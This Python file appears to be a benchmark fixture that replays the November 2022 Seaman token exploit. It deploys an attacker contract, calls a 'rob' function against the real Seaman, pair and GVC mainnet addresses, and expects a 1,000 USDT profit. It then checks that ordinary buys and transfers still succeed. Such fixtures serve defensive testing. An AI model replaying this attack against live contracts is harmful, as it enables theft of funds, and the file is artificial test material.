"""Seaman, November 2022: each transfer to its pair made it buy its dividends' token, at whatever price."""

from benches.quality.incidents.pancake import ROUTER, USDT, holds, swap
from benches.quality.plan import ETHER, Incident, Plan, call, gains

SEAMAN = "0x6bc9b4976ba6f8c9574326375204ee469993d038"
PAIR = "0x6637914482670f91f43025802b6755f27050b0a6"
GVC = "0xdb95fbc5532eeb43deed56c8dc050c930e31017e"
GVC_PAIR = "0x84d26ad5f7d12ae783fee433fd0d2b2b1a7e9260"


def build(plan: Plan) -> None:
    attacker = plan.actor("attacker")
    sender = plan.deploy(attacker, "DustSender")
    lent = 500_000 * ETHER
    plan.give(USDT, sender, lent, slot=1)
    plan.give(SEAMAN, sender, ETHER, slot=2)
    rob = call("rob(address,address,address,address,address,uint256)", SEAMAN, PAIR, GVC, GVC_PAIR, USDT, 20)
    plan.attack(
        plan.transaction(attacker, sender, rob, gas=30_000_000),
        changes=[gains(USDT, attacker, lent + 1_000 * ETHER)],
    )

    buyer, payer, payee = plan.actor("buyer"), plan.actor("payer"), plan.actor("payee")
    holds(plan, USDT, buyer.address, 300, slot=1)
    plan.honest(
        "Seaman bought for 300 USDT",
        plan.transaction(buyer, ROUTER, swap(300, [USDT, SEAMAN], buyer.address), gas=8_000_000),
        changes=[gains(SEAMAN, buyer, 1)],
    )
    plan.give(SEAMAN, payer, 3_000 * ETHER, slot=2)
    plan.honest(
        "transfer of 2,000 Seaman",
        plan.transaction(
            payer, SEAMAN, call("transfer(address,uint256)", payee.address, 2_000 * ETHER), gas=8_000_000
        ),
        changes=[gains(SEAMAN, payee, 1)],
    )
    wallet = plan.install("Wallet")
    holds(plan, USDT, wallet, 500, slot=1)
    plan.honest(
        "a wallet buys Seaman for 500 USDT",
        plan.through(
            wallet,
            plan.actor("wallet's holder"),
            (ROUTER, 0, swap(500, [USDT, SEAMAN], wallet)),
            gas=8_000_000,
        ),
        changes=[gains(SEAMAN, wallet, 1)],
        by="contract",
    )


SEAMAN_TOKEN = Incident(
    "Seaman",
    {"Seaman": SEAMAN, "Pair": PAIR},
    build,
    note="the attacker has what it would borrow for the transaction",
)
